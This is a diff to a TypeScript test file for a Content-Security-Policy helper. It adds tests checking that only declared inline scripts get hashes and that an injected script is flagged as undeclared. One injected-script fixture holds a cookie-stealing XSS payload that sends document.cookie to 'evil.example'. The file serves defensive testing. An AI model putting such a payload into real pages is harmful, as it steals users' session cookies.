@@ -1,6 +1,6 @@
 import { createHash } from "node:crypto";
 import { expect, test } from "vitest";
-import { contentSecurityPolicy, inlineScriptHashes } from "./security-headers.server";
+import { contentSecurityPolicy, inlineScriptHashes, scriptHash } from "./security-headers.server";
 
 const sha256 = (text: string) => `'sha256-${createHash("sha256").update(text).digest("base64")}'`;
 
@@ -18,7 +18,12 @@ test("behind HTTPS, insecure requests are upgraded", () => {
   expect(contentSecurityPolicy([], { https: true })).toContain("upgrade-insecure-requests");
 });
 
-test("hashes every inline script, the speculation rules too, and no JSON data block or external script", () => {
+test("hashes the declared inline scripts, the speculation rules too, and no JSON data block or external script", () => {
+  const declared = new Set(
+    ["console.log(1)", 'import("/assets/entry.js");', '{"prefetch":[{"where":{"href_matches":"/*"}}]}', 'window.__x = "</p>";'].map(
+      scriptHash,
+    ),
+  );
   const html = [
     "<html><head><script>console.log(1)</script>",
     '<script type="module">import("/assets/entry.js");</script>',
@@ -27,10 +32,21 @@ test("hashes every inline script, the speculation rules too, and no JSON data bl
     '<script type="module" src="/assets/app.js"></script>',
     '</head><body><script nonce="">window.__x = "</p>";</script></body></html>',
   ].join("");
-  expect(inlineScriptHashes(html)).toEqual([
-    sha256("console.log(1)"),
-    sha256('import("/assets/entry.js");'),
-    sha256('{"prefetch":[{"where":{"href_matches":"/*"}}]}'),
-    sha256('window.__x = "</p>";'),
-  ]);
+  expect(inlineScriptHashes(html, declared)).toEqual({
+    hashes: [
+      sha256("console.log(1)"),
+      sha256('import("/assets/entry.js");'),
+      sha256('{"prefetch":[{"where":{"href_matches":"/*"}}]}'),
+      sha256('window.__x = "</p>";'),
+    ],
+    undeclared: 0,
+  });
+});
+
+test("a script injected into the page is not among the hashes the policy allows", () => {
+  const declared = new Set([scriptHash("console.log(1)")]);
+  const html =
+    "<html><head><script>console.log(1)</script></head><body><p>Hello</p>" +
+    '<script>fetch("https://evil.example/?c="+document.cookie)</script></body></html>';
+  expect(inlineScriptHashes(html, declared)).toEqual({ hashes: [sha256("console.log(1)")], undeclared: 1 });
 });
